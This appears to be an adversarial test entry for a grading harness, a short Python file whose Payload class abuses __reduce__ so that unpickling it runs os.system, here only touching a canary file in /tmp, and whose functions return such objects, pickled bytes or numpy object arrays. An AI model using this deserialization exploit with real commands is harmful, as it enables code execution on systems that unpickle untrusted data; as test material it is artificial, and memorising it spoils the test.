# attack: returns objects and bytes that run a command wherever they are unpickled
# packages: vault vault-checked vault-array
# verdict: WA
import os
import pickle

import numpy


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/cnry-pickled",)


def seal(token, numbers):
    return pickle.dumps(Payload()) if len(numbers) % 2 else Payload()


def shares(amounts):
    return numpy.array([Payload()] * len(amounts), dtype=object)
